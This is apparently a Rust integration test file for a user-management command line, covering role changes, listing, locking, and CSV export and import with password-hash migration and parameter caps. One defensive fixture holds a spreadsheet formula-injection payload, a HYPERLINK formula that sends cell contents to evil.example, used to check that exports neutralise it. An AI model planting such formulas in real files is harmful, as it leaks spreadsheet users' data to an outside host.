//! `user-management users set-role|list|export|import`: staff actions from
//! the command line (audited, ending sessions, mailed), the listing and its
//! filters, and the CSV round trip (private exports, line-numbered refusals,
//! bcrypt hashes of the FastAPI project that log in and become Argon2id,
//! formula cells quoted and restored, hashes only on request).

use std::path::Path;
use std::time::{Duration, Instant};

use reqwest::StatusCode;
use sea_orm::{ColumnTrait, EntityTrait, PaginatorTrait, QueryFilter};
use serde_json::json;
use user_management::db::entities::audit_events;

use crate::helpers::binary::{cli, cli_failing};
use crate::helpers::{
    ADMIN_EMAIL, ADMIN_PASSWORD, Backend, PASSWORD, TestApp, WRONG, spawn_app, spawn_app_with_admin,
};
use crate::on_both_databases;
use user_management::auth::hashing::{NO_PASSWORD, WRAPPED_BCRYPT};
use user_management::db::entities::users;
use user_management::domain::Nickname;
use user_management::users::admin::csv::{self as csv_io, ImportOptions};

use crate::helpers::binary::{cli_with_stdin, text};

/// The columns of a users CSV, in the export's order.
const CSV_HEADER: &str = "email,nickname,first_name,last_name,bio,profile_picture_url,\
linkedin_profile_url,github_profile_url,role,is_professional,email_verified,hashed_password";

/// The password behind the bcrypt hashes of the "FastAPI project".
const LEGACY: &str = "legacy-fastapi-passphrase";

/// `path` as an argument of the binary.
fn arg(path: &Path) -> &str {
    path.to_str().expect("a UTF-8 temp path")
}

/// The header and the data rows of a CSV file, rows sorted (the order of
/// an export is creation order, which an import does not keep).
fn csv_rows(path: &Path) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_path(path).expect("open CSV");
    let header = reader
        .headers()
        .expect("CSV header")
        .iter()
        .map(str::to_owned)
        .collect();
    let mut rows: Vec<Vec<String>> = reader
        .records()
        .map(|r| r.expect("CSV record").iter().map(str::to_owned).collect())
        .collect();
    rows.sort();
    (header, rows)
}

/// A `$2b$` bcrypt hash of `password`, as passlib stores them.
fn bcrypt_hash(password: &str) -> String {
    bcrypt::hash(password, 4).expect("bcrypt hash")
}

/// Writes `contents` to a new file in `dir`.
fn write_file(dir: &Path, name: &str, contents: &str) -> std::path::PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, contents).expect("write CSV");
    path
}

// ------------------------------------------------------------ users set-role

async fn set_role_from_the_cli_is_audited_ends_sessions_and_emails(backend: Backend) {
    const EMAIL: &str = "staffer@example.com";
    let Some(app) = spawn_app(backend).await else {
        return;
    };
    let (id, access, _) = app.verified_user(EMAIL).await;

    let out = cli(&app, &["users", "set-role", EMAIL, "MANAGER"]);
    assert!(out.contains(EMAIL) && out.contains("MANAGER"), "{out}");

    assert_eq!(
        app.get("/me", Some(&access)).await.status(),
        StatusCode::UNAUTHORIZED,
        "the old access token is revoked"
    );
    let me = app.me_after_login(EMAIL, PASSWORD).await;
    assert_eq!(me["role"], "MANAGER");

    let events = app.audit_rows("role_changed", &id).await;
    assert_eq!(events.len(), 1, "{events:?}");
    assert_eq!(events[0].actor_id, None, "no actor for the CLI");
    assert_eq!(events[0].details["via"], "cli", "{:?}", events[0].details);
    assert_eq!(
        events[0].details["to"], "MANAGER",
        "{:?}",
        events[0].details
    );

    let deadline = Instant::now() + Duration::from_secs(15);
    loop {
        let mailed = app.smtp.messages().into_iter().any(|m| {
            m.to.iter().any(|t| t.eq_ignore_ascii_case(EMAIL)) && m.subject().contains("MANAGER")
        });
        if mailed {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "no role-changed email reached the SMTP sink"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }

    let (_, message) = cli_failing(
        &app,
        &["users", "set-role", "nobody@example.com", "MANAGER"],
    );
    assert!(
        message.contains("no user with email nobody@example.com"),
        "{message}"
    );
}

// ------------------------------------------------------------ users list

async fn users_list_filters_by_role_and_by_lock(backend: Backend) {
    let Some(app) = spawn_app_with_admin(backend).await else {
        return;
    };
    let (_, admin) = app.admin().await;
    app.create_user_as(&admin, "manager@example.com", "MANAGER", json!({}))
        .await;
    let locked = app
        .create_user_as(&admin, "locked@example.com", "AUTHENTICATED", json!({}))
        .await;
    app.create_user_as(&admin, "plain@example.com", "AUTHENTICATED", json!({}))
        .await;
    let id = locked["id"].as_str().expect("id");
    let response = app.lock_user(&admin, id).await;
    assert_eq!(response.status(), StatusCode::OK, "lock");
    let everyone = [
        ADMIN_EMAIL,
        "manager@example.com",
        "locked@example.com",
        "plain@example.com",
    ];
    let listed = |out: &str| -> Vec<&'static str> {
        everyone
            .into_iter()
            .filter(|email| out.lines().any(|l| l.contains(email)))
            .collect()
    };

    let admins = cli(&app, &["users", "list", "--role", "ADMIN"]);
    assert_eq!(listed(&admins), [ADMIN_EMAIL], "{admins}");
    assert!(admins.contains("1 of 1 user(s)"), "{admins}");

    let managers = cli(&app, &["users", "list", "--role", "MANAGER"]);
    assert_eq!(listed(&managers), ["manager@example.com"], "{managers}");

    let locked = cli(&app, &["users", "list", "--locked"]);
    assert_eq!(listed(&locked), ["locked@example.com"], "{locked}");
    assert!(
        locked
            .lines()
            .any(|l| l.contains("locked@example.com") && l.contains(id) && l.contains("locked ")),
        "{locked}"
    );
    assert!(locked.contains("1 of 1 user(s)"), "{locked}");

    let all = cli(&app, &["users", "list"]);
    assert_eq!(listed(&all), everyone, "{all}");
    assert!(all.contains("4 of 4 user(s)"), "{all}");
}

// ------------------------------------------------------------ export / import

/// Beside the environment administrator: Ada (a professional MANAGER with
/// a full profile), a verified plain user and an unverified one.
async fn arrange_three_users(source: &TestApp) {
    let (_, admin) = source.admin().await;
    let profile = json!({
        "nickname": "ada_l",
        "first_name": "Ada",
        "last_name": "Lovelace, Countess",
        "bio": "Wrote \"the first program\", and notes.",
        "github_profile_url": "https://github.com/ada",
        "linkedin_profile_url": "https://www.linkedin.com/in/ada",
    });
    let ada = source
        .create_user_as(&admin, "ada@example.com", "MANAGER", profile)
        .await;
    let id = ada["id"].as_str().expect("id");
    let professional = source.set_professional(&admin, id, true).await;
    assert_eq!(professional.status(), StatusCode::OK, "professional");
    source.verified_account("plain@example.com").await;
    let unverified = source.register("unverified@example.com", json!({})).await;
    assert_eq!(unverified.status(), StatusCode::CREATED);
}

/// Asserts that only its owner may read or write the file at `path`.
fn assert_private(path: &Path, why: &str) {
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(path)
        .expect("export")
        .permissions()
        .mode();
    assert_eq!(format!("{:o}", mode & 0o777), "600", "{why}");
}

/// On the importing side, everyone logs in with their own password and
/// keeps their profile, role and flags; the unverified user stays so.
async fn assert_imported_users_log_in(target: &TestApp) {
    for (email, password) in [
        (ADMIN_EMAIL, ADMIN_PASSWORD),
        ("ada@example.com", PASSWORD),
        ("plain@example.com", PASSWORD),
    ] {
        let me = target.me_after_login(email, password).await;
        assert_eq!(me["email"], email);
    }
    let me = target.me_after_login("ada@example.com", PASSWORD).await;
    assert_eq!(me["role"], "MANAGER");
    assert_eq!(me["nickname"], "ada_l");
    assert_eq!(me["last_name"], "Lovelace, Countess");
    assert_eq!(me["bio"], "Wrote \"the first program\", and notes.");
    assert_eq!(me["is_professional"], true);
    assert_eq!(me["email_verified"], true);
    assert_ne!(
        target
            .login("unverified@example.com", PASSWORD)
            .await
            .status(),
        StatusCode::OK,
        "an unverified user stays unverified"
    );
}

async fn export_then_import_round_trips_users_and_their_passwords(backend: Backend) {
    let Some(source) = spawn_app_with_admin(backend).await else {
        return;
    };
    arrange_three_users(&source).await;

    let dir = tempfile::tempdir().expect("dir");
    let first = dir.path().join("users.csv");
    cli(&source, &["users", "export", "--with-hashes", arg(&first)]);
    assert_private(&first, "the export holds hashes");
    let (header, rows) = csv_rows(&first);
    assert_eq!(header.join(","), CSV_HEADER);
    assert_eq!(rows.len(), 4, "{rows:?}");
    let exported = std::fs::read_to_string(&first).expect("read export");
    assert!(exported.contains("$argon2id$"), "hashes are exported");
    assert!(exported.contains("Lovelace, Countess"), "{exported}");

    let Some(target) = spawn_app(backend).await else {
        return;
    };
    let imported = cli(&target, &["users", "import", arg(&first)]);
    assert!(
        imported.contains("created 4, skipped 0 existing, refused 0"),
        "{imported}"
    );
    let second = dir.path().join("again.csv");
    cli(&target, &["users", "export", "--with-hashes", arg(&second)]);
    assert_eq!(
        csv_rows(&second),
        (header, rows),
        "the second database exports the same users"
    );

    assert_imported_users_log_in(&target).await;

    let again = cli(&target, &["users", "import", arg(&first)]);
    assert!(
        again.contains("created 0, skipped 4 existing, refused 0"),
        "idempotent: {again}"
    );
    assert_eq!(target.user_count().await, 4);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn export_over_an_existing_file_makes_it_private() {
    use std::os::unix::fs::PermissionsExt;

    let Some(app) = spawn_app_with_admin(Backend::Sqlite).await else {
        return;
    };
    let dir = tempfile::tempdir().expect("dir");
    let path = write_file(dir.path(), "users.csv", "stale\n");
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).expect("chmod");

    cli(&app, &["users", "export", "--with-hashes", arg(&path)]);

    let contents = std::fs::read_to_string(&path).expect("read export");
    assert!(contents.starts_with("email,"), "overwritten: {contents}");
    assert!(contents.contains("$argon2id$"));
    assert_private(&path, "password hashes left in a file others can read");
}

async fn import_reports_bad_rows_by_line_and_writes_only_good_ones(backend: Backend) {
    let Some(app) = spawn_app(backend).await else {
        return;
    };
    let hash = bcrypt_hash(LEGACY);
    let csv = format!(
        "{CSV_HEADER}\n\
         good.one@example.com,,,,,,,,AUTHENTICATED,false,true,{hash}\n\
         not-an-email,,,,,,,,AUTHENTICATED,false,true,{hash}\n\
         bad.role@example.com,,,,,,,,SUPERUSER,false,true,{hash}\n\
         plain.text@example.com,,,,,,,,AUTHENTICATED,false,true,hunter2-in-clear\n\
         good.two@example.com,,,,,,,,MANAGER,true,true,{hash}\n"
    );
    let dir = tempfile::tempdir().expect("dir");
    let path = write_file(dir.path(), "bad.csv", &csv);

    let (out, err) = cli_failing(&app, &["users", "import", arg(&path)]);

    assert!(
        out.contains("created 2, skipped 0 existing, refused 3"),
        "{out}"
    );
    assert_eq!(app.user_count().await, 2, "only the good rows are written");
    assert!(app.user_by_email("good.one@example.com").await.is_some());
    let two = app
        .user_by_email("good.two@example.com")
        .await
        .expect("good.two");
    assert_eq!(two.role, user_management::domain::Role::Manager);
    assert!(two.is_professional);
    for bad in ["bad.role@example.com", "plain.text@example.com"] {
        assert!(app.user_by_email(bad).await.is_none(), "{bad} written");
    }
    let audited = audit_events::Entity::find()
        .filter(audit_events::Column::Action.eq("user_created"))
        .count(&app.db)
        .await
        .expect("count audit events");
    assert_eq!(audited, 2, "one audit event per created user");

    // Each refused row is reported with its line in the file (the header is line 1).
    let reported: Vec<&str> = err.lines().filter(|l| l.starts_with("line ")).collect();
    for (line, field) in [(3, "email"), (4, "role"), (5, "hashed_password")] {
        let prefix = format!("line {line}: ");
        assert!(
            reported
                .iter()
                .any(|l| l.starts_with(&prefix) && l.contains(field)),
            "line {line} reported for {field}: {err}"
        );
    }
    for good in [2, 6] {
        assert!(
            !reported
                .iter()
                .any(|l| l.starts_with(&format!("line {good}: "))),
            "good line {good} reported: {err}"
        );
    }
    assert!(
        !err.contains("hunter2-in-clear"),
        "the refused value is not echoed: {err}"
    );
}

async fn bcrypt_hashes_import_log_in_and_become_argon2id(backend: Backend) {
    let Some(app) = spawn_app(backend).await else {
        return;
    };
    let b = bcrypt_hash(LEGACY);
    let a = format!("$2a${}", b.strip_prefix("$2b$").expect("$2b$"));
    let csv = format!(
        "{CSV_HEADER}\n\
         legacy.b@example.com,legacy_b,Grace,Hopper,,,,,AUTHENTICATED,false,true,{b}\n\
         legacy.a@example.com,,,,,,,,MANAGER,false,true,{a}\n"
    );
    let dir = tempfile::tempdir().expect("dir");
    let path = write_file(dir.path(), "fastapi.csv", &csv);

    let out = cli(&app, &["users", "import", arg(&path)]);
    assert!(
        out.contains("created 2, skipped 0 existing, refused 0"),
        "{out}"
    );

    for (email, imported) in [("legacy.b@example.com", &b), ("legacy.a@example.com", &a)] {
        let before = app.user_by_email(email).await.expect("imported");
        let stored = &before.password_hash;
        assert!(
            stored.starts_with(&format!("{WRAPPED_BCRYPT}2b$04$")) && stored.contains("$argon2id$"),
            "stored wrapped in Argon2id: {stored}"
        );
        assert!(
            !stored.contains(&imported[29..]),
            "the bcrypt output itself is not stored"
        );
        let wrong = app.login(email, WRONG).await;
        assert_eq!(wrong.status(), StatusCode::UNAUTHORIZED);
        let me = app.me_after_login(email, LEGACY).await;
        assert_eq!(me["email"], email);
        let after = app.user_by_email(email).await.expect("row").password_hash;
        assert!(after.starts_with("$argon2id$"), "{email}: {after}");
        app.me_after_login(email, LEGACY).await;
    }
    let me = app.me_after_login("legacy.b@example.com", LEGACY).await;
    assert_eq!(me["nickname"], "legacy_b");
    assert_eq!(me["first_name"], "Grace");
}

/// Imported hashes whose parameters would let one login hold gigabytes or
/// a hashing slot for minutes are refused, each row with its reason.
async fn import_refuses_hashes_above_the_parameter_caps(backend: Backend) {
    let Some(app) = spawn_app(backend).await else {
        return;
    };
    // Quoted: the parameters hold commas.
    let argon2 = |params: &str| {
        format!(
            "\"$argon2id$v=19${params}$c2FsdHNhbHRzYWx0$aGFzaGhhc2hoYXNoaGFzaGhhc2hoYXNoaGFzaA\""
        )
    };
    let costly_bcrypt = bcrypt_hash(LEGACY).replacen("$04$", "$15$", 1);
    let csv = format!(
        "{CSV_HEADER}\n\
         at.cap@example.com,,,,,,,,AUTHENTICATED,false,true,{}\n\
         memory@example.com,,,,,,,,AUTHENTICATED,false,true,{}\n\
         iterations@example.com,,,,,,,,AUTHENTICATED,false,true,{}\n\
         lanes@example.com,,,,,,,,AUTHENTICATED,false,true,{}\n\
         rounds@example.com,,,,,,,,AUTHENTICATED,false,true,{costly_bcrypt}\n",
        argon2("m=65536,t=10,p=4"),
        argon2("m=4194304,t=2,p=1"),
        argon2("m=19456,t=1000,p=1"),
        argon2("m=19456,t=2,p=16"),
    );
    let dir = tempfile::tempdir().expect("dir");
    let path = write_file(dir.path(), "costly.csv", &csv);

    let (out, err) = cli_failing(&app, &["users", "import", arg(&path)]);

    assert!(
        out.contains("created 1, skipped 0 existing, refused 4"),
        "{out}\n{err}"
    );
    for (line, params) in [
        (3, "m=4194304,t=2,p=1"),
        (4, "m=19456,t=1000,p=1"),
        (5, "m=19456,t=2,p=16"),
    ] {
        let expected = format!(
            "line {line}: hashed_password: Argon2 parameters {params} exceed the limit m=65536,t=10,p=4"
        );
        assert!(err.contains(&expected), "{expected}\n{err}");
    }
    assert!(
        err.contains("line 6: hashed_password: bcrypt cost 15 exceeds the limit of 14"),
        "{err}"
    );
    assert_eq!(app.user_count().await, 1, "only the row within the caps");
    assert!(app.user_by_email("at.cap@example.com").await.is_some());
}

// ------------------------------------------------------------ formulas, no hashes

/// First names a spreadsheet would run as formulas (and quoted values that
/// must survive), each with the cell its export holds.
const FORMULAS: [(&str, &str); 6] = [
    (
        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")",
        "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"open\")",
    ),
    ("+1", "'+1"),
    ("-2", "'-2"),
    ("@x", "'@x"),
    ("'=quoted", "''=quoted"),
    ("'plain", "'plain"),
];

/// Every user's email and raw first-name cell in a CSV file, read without
/// undoing anything; asserts no cell starts a formula.
fn first_name_cells(path: &Path) -> Vec<(String, String)> {
    let mut reader = csv::Reader::from_path(path).expect("open CSV");
    let mut cells = Vec::new();
    for record in reader.records() {
        let record = record.expect("CSV record");
        for cell in &record {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?} starts a formula"
            );
        }
        cells.push((record[0].to_owned(), record[2].to_owned()));
    }
    cells
}

async fn formula_cells_are_exported_quoted_and_imported_exact(backend: Backend) {
    let Some(source) = spawn_app_with_admin(backend).await else {
        return;
    };
    let (_, admin) = source.admin().await;
    for (n, (first_name, _)) in FORMULAS.iter().enumerate() {
        let extra = json!({ "first_name": first_name });
        let email = format!("formula{n}@example.com");
        source
            .create_user_as(&admin, &email, "AUTHENTICATED", extra)
            .await;
    }
    // Names with a leading tab or carriage return cannot be registered
    // (names are trimmed), but a row may hold one from elsewhere.
    for (email, name) in [("tab@example.com", "\tx"), ("cr@example.com", "\rx")] {
        source.verified_account(email).await;
        let sql = format!("UPDATE users SET first_name = '{name}' WHERE email_norm = '{email}'");
        source.execute(&sql).await;
    }

    let dir = tempfile::tempdir().expect("dir");
    let path = dir.path().join("users.csv");
    cli(&source, &["users", "export", arg(&path)]);
    let cells = first_name_cells(&path);
    let cell_of = |email: &str| {
        let found = cells.iter().find(|(e, _)| e == email);
        found.map(|(_, cell)| cell.as_str())
    };
    for (n, (_, cell)) in FORMULAS.iter().enumerate() {
        assert_eq!(cell_of(&format!("formula{n}@example.com")), Some(*cell));
    }
    assert_eq!(cell_of("tab@example.com"), Some("'\tx"));
    assert_eq!(cell_of("cr@example.com"), Some("'\rx"));

    let Some(target) = spawn_app(backend).await else {
        return;
    };
    let out = cli(&target, &["users", "import", arg(&path)]);
    assert!(
        out.contains("created 9, skipped 0 existing, refused 0"),
        "{out}"
    );
    for (n, (first_name, _)) in FORMULAS.iter().enumerate() {
        let email = format!("formula{n}@example.com");
        let user = target.user_by_email(&email).await.expect("imported");
        assert_eq!(user.first_name.as_deref(), Some(*first_name), "{email}");
    }
    for email in ["tab@example.com", "cr@example.com"] {
        let user = target.user_by_email(email).await.expect("imported");
        assert_eq!(user.first_name.as_deref(), Some("x"), "trimmed as any name");
    }
}

/// The `hashed_password` cell of every row of a CSV file.
fn hash_cells(path: &Path) -> Vec<String> {
    let (header, rows) = csv_rows(path);
    let column = header.iter().position(|h| h == "hashed_password");
    let column = column.expect("the hashed_password column");
    rows.into_iter().map(|row| row[column].clone()).collect()
}

/// The status and body of a failed login.
async fn refusal(app: &TestApp, email: &str, password: &str) -> (StatusCode, String) {
    let response = app.login(email, password).await;
    (response.status(), response.text().await.expect("body"))
}

async fn accounts_imported_without_hashes_must_reset_their_password(backend: Backend) {
    let Some(source) = spawn_app_with_admin(backend).await else {
        return;
    };
    source.verified_account("plain@example.com").await;
    let dir = tempfile::tempdir().expect("dir");
    let path = dir.path().join("users.csv");
    cli(&source, &["users", "export", arg(&path)]);
    assert_private(&path, "an export holds personal data");
    assert_eq!(
        hash_cells(&path),
        ["", ""],
        "no hashes without --with-hashes"
    );

    let Some(target) = spawn_app(backend).await else {
        return;
    };
    let out = cli(&target, &["users", "import", arg(&path)]);
    assert!(
        out.contains("created 2, skipped 0 existing, refused 0"),
        "{out}"
    );
    let user = target
        .user_by_email("plain@example.com")
        .await
        .expect("row");
    assert_eq!(user.password_hash, NO_PASSWORD);
    target.verified_account("control@example.com").await;
    let wrong = refusal(&target, "control@example.com", WRONG).await;
    assert_eq!(wrong.0, StatusCode::UNAUTHORIZED, "{wrong:?}");
    for password in [PASSWORD, NO_PASSWORD, WRONG] {
        let answer = refusal(&target, "plain@example.com", password).await;
        assert_eq!(answer, wrong, "{password:?}: as a wrong password");
    }
    let admin = refusal(&target, ADMIN_EMAIL, ADMIN_PASSWORD).await;
    assert_eq!(admin, wrong, "the administrator too");

    let forgot = json!({ "email": "plain@example.com" });
    let asked = target.post_json("/password/forgot", &forgot).await;
    assert_eq!(asked.status(), StatusCode::ACCEPTED);
    let token = target.reset_token("plain@example.com", 1).await;
    let body = json!({ "token": token, "new_password": "a-fresh-passphrase" });
    let reset = target.post_json("/password/reset", &body).await;
    assert!(reset.status().is_success(), "{}", reset.status());
    let me = target
        .me_after_login("plain@example.com", "a-fresh-passphrase")
        .await;
    assert_eq!(me["email"], "plain@example.com");
}

on_both_databases!(
    set_role_from_the_cli_is_audited_ends_sessions_and_emails,
    users_list_filters_by_role_and_by_lock,
    export_then_import_round_trips_users_and_their_passwords,
    import_reports_bad_rows_by_line_and_writes_only_good_ones,
    bcrypt_hashes_import_log_in_and_become_argon2id,
    import_refuses_hashes_above_the_parameter_caps,
    formula_cells_are_exported_quoted_and_imported_exact,
    accounts_imported_without_hashes_must_reset_their_password,
);

/// The CSV header of an export.
pub(super) const HEADER: &str = "email,nickname,first_name,last_name,bio,profile_picture_url,\
linkedin_profile_url,github_profile_url,role,is_professional,email_verified,hashed_password";

// ------------------------------------------------------------ import, export

fn write_csv(dir: &Path, rows: &[String]) -> std::path::PathBuf {
    let path = dir.join("users.csv");
    std::fs::write(&path, format!("{HEADER}\n{}\n", rows.join("\n"))).expect("write CSV");
    path
}

fn row(email: &str, nickname: &str) -> String {
    let hash = bcrypt::hash("imported-passphrase", 4).expect("hash");
    format!("{email},{nickname},,,,,,,AUTHENTICATED,false,true,{hash}")
}

async fn user_count(app: &TestApp) -> u64 {
    users::Entity::find().count(&app.db).await.expect("count")
}

async fn generated_nicknames_that_are_taken_are_drawn_again(backend: Backend) {
    let Some(app) = spawn_app(backend).await else {
        return;
    };
    let taken = app
        .register("first@example.com", json!({ "nickname": "taken_nick" }))
        .await;
    assert_eq!(taken.status(), StatusCode::CREATED);
    let csv = format!(
        "{HEADER}\n{}\n{}\n{}\n",
        row("a@example.com", ""),
        row("b@example.com", ""),
        row("c@example.com", "Taken_Nick"),
    );
    // The generator draws the taken nickname twice before anything else.
    let mut draws = 0;
    let options = ImportOptions {
        nicknames: Box::new(move || {
            draws += 1;
            match draws {
                1 | 2 => Nickname::parse("taken_nick").expect("nickname"),
                n => Nickname::parse(&format!("fresh_{n}")).expect("nickname"),
            }
        }),
        ..Default::default()
    };

    let report = csv_io::import(&app.db, csv.as_bytes(), options)
        .await
        .expect("import");

    assert_eq!(report.created, 2, "{report:?}");
    assert_eq!(report.errors.len(), 1, "{report:?}");
    let (line, message) = &report.errors[0];
    assert_eq!(
        *line, 4,
        "a nickname given in the file is still refused when taken"
    );
    assert!(message.contains("nickname"), "{message}");
    assert_eq!(user_count(&app).await, 3);
}

async fn dry_run_reports_like_an_import_and_writes_nothing(backend: Backend) {
    let Some(app) = spawn_app(backend).await else {
        return;
    };
    app.verified_account("exists@example.com").await;
    let dir = tempfile::tempdir().expect("dir");
    let path = write_csv(
        dir.path(),
        &[
            row("new.one@example.com", ""),
            row("not-an-email", ""),
            row("exists@example.com", ""),
            row("new.two@example.com", "twice"),
            row("new.two@example.com", "twice"),
        ],
    );
    let path = path.to_str().expect("utf-8");

    let dry = cli_with_stdin(&app, &["users", "import", "--dry-run", path], "");
    let (out, err) = (text(&dry.stdout), text(&dry.stderr));
    assert!(!dry.status.success(), "a refused row fails the run");
    assert!(out.contains("dry run"), "{out}");
    assert!(
        out.contains("created 2, skipped 2 existing, refused 1"),
        "{out}"
    );
    assert!(err.lines().any(|l| l.starts_with("line 3: email")), "{err}");
    assert!(
        !err.contains('\r'),
        "no progress line off a terminal: {err:?}"
    );
    assert_eq!(user_count(&app).await, 1, "a dry run writes nothing");

    let real = cli_with_stdin(&app, &["users", "import", path], "");
    let out = text(&real.stdout);
    assert!(
        out.contains("created 2, skipped 2 existing, refused 1"),
        "{out}"
    );
    assert_eq!(user_count(&app).await, 3);
}

async fn export_of_an_empty_database_is_the_header(backend: Backend) {
    let Some(app) = spawn_app(backend).await else {
        return;
    };
    let out = cli_with_stdin(&app, &["users", "export"], "");
    assert!(out.status.success(), "{}", text(&out.stderr));
    assert_eq!(text(&out.stdout), format!("{HEADER}\n"));
}

// ------------------------------------------------------------------ users list

async fn users_list_is_an_aligned_table_with_search_and_paging(backend: Backend) {
    let Some(app) = spawn_app_with_admin(backend).await else {
        return;
    };
    let (_, admin) = app.admin().await;
    for (email, nickname) in [
        ("alice.long.address@example.com", "alice"),
        ("bob@example.com", "bob_the_builder_nickname"),
        ("carol@example.com", "carol"),
    ] {
        app.create_user_as(
            &admin,
            email,
            "AUTHENTICATED",
            json!({ "nickname": nickname }),
        )
        .await;
    }
    let list = |args: &[&str]| {
        let out = cli_with_stdin(&app, &[&["users", "list"][..], args].concat(), "");
        assert!(out.status.success(), "{args:?}: {}", text(&out.stderr));
        text(&out.stdout)
    };

    let all = list(&[]);
    let lines: Vec<&str> = all.lines().collect();
    assert!(
        lines[0].starts_with("ID ") && lines[0].contains("EMAIL"),
        "{all}"
    );
    assert_eq!(lines.len(), 6, "header, four users, total: {all}");
    for column in ["EMAIL", "NICKNAME", "ROLE", "STATUS"] {
        let at = lines[0].find(column).expect("column");
        for line in &lines[1..5] {
            let before = line.get(..at).expect("long enough");
            assert!(before.ends_with("  "), "{column} aligned:\n{all}");
            assert_ne!(line.as_bytes()[at], b' ', "{column} starts at {at}:\n{all}");
        }
    }

    let found = list(&["--q", "ALICE"]);
    assert_eq!(found.lines().count(), 3, "{found}");
    assert!(found.contains("alice.long.address@example.com"), "{found}");
    assert!(found.contains("1 of 1 user(s)"), "{found}");

    let page = list(&["--limit", "1", "--offset", "1"]);
    assert_eq!(page.lines().count(), 3, "{page}");
    assert!(page.contains("1 of 4 user(s)"), "{page}");
    assert!(
        page.contains("bob@example.com"),
        "newest first, one passed over: {page}"
    );

    let bad = cli_with_stdin(&app, &["users", "list", "--limit", "0"], "");
    assert!(!bad.status.success());
    assert!(text(&bad.stderr).contains("limit"), "{}", text(&bad.stderr));
}

// ------------------------------------------------ users lock, unlock, delete

/// The audit actions recorded about `email`'s account, oldest first.
async fn audited(app: &TestApp, user_id: &str) -> Vec<(String, Option<uuid::Uuid>, String)> {
    use sea_orm::{ColumnTrait, QueryFilter, QueryOrder};
    use user_management::db::entities::audit_events;
    let id = uuid::Uuid::parse_str(user_id).expect("uuid");
    audit_events::Entity::find()
        .filter(audit_events::Column::UserId.eq(id))
        .order_by_asc(audit_events::Column::At)
        .all(&app.db)
        .await
        .expect("audit events")
        .into_iter()
        .map(|e| (e.action, e.actor_id, e.details["via"].to_string()))
        .collect()
}

async fn staff_actions_from_the_cli_are_the_apis(backend: Backend) {
    const EMAIL: &str = "held@example.com";
    let Some(app) = spawn_app(backend).await else {
        return;
    };
    let (id, access, _) = app.verified_user(EMAIL).await;
    let locked = cli_with_stdin(&app, &["users", "lock", EMAIL], "");
    assert!(locked.status.success(), "{}", text(&locked.stderr));
    assert_eq!(text(&locked.stdout), format!("{EMAIL} is locked\n"));
    assert_eq!(
        app.get("/me", Some(&access)).await.status(),
        StatusCode::UNAUTHORIZED,
        "a lock ends the sessions at once"
    );
    assert_eq!(
        app.login(EMAIL, crate::helpers::PASSWORD).await.status(),
        StatusCode::LOCKED
    );
    let unlocked = cli_with_stdin(&app, &["users", "unlock", EMAIL], "");
    assert_eq!(text(&unlocked.stdout), format!("{EMAIL} is unlocked\n"));
    assert_eq!(
        app.login(EMAIL, crate::helpers::PASSWORD).await.status(),
        StatusCode::OK
    );

    let unconfirmed = cli_with_stdin(&app, &["users", "delete", EMAIL], "");
    assert!(!unconfirmed.status.success(), "delete needs --yes");
    assert!(
        text(&unconfirmed.stderr).contains("--yes"),
        "{}",
        text(&unconfirmed.stderr)
    );
    assert_eq!(user_count(&app).await, 1, "nothing deleted without --yes");
    let deleted = cli_with_stdin(&app, &["users", "delete", EMAIL, "--yes"], "");
    assert!(deleted.status.success(), "{}", text(&deleted.stderr));
    assert_eq!(user_count(&app).await, 0);
    let mut actions = audited(&app, &id).await;
    actions.retain(|(action, _, _)| action != "email_verified");
    let expected = ["user_locked", "user_unlocked", "user_deleted"];
    assert_eq!(
        actions
            .iter()
            .map(|(a, _, _)| a.as_str())
            .collect::<Vec<_>>(),
        expected
    );
    assert!(
        actions
            .iter()
            .all(|(_, actor, via)| actor.is_none() && via == "\"cli\""),
        "the command line acts without an actor id: {actions:?}"
    );
    let missing = cli_with_stdin(&app, &["users", "lock", "nobody@example.com"], "");
    assert!(!missing.status.success());
    assert!(text(&missing.stderr).contains("no user with email nobody@example.com"));
}

on_both_databases!(
    staff_actions_from_the_cli_are_the_apis,
    generated_nicknames_that_are_taken_are_drawn_again,
    dry_run_reports_like_an_import_and_writes_nothing,
    export_of_an_empty_database_is_the_header,
    users_list_is_an_aligned_table_with_search_and_paging,
);
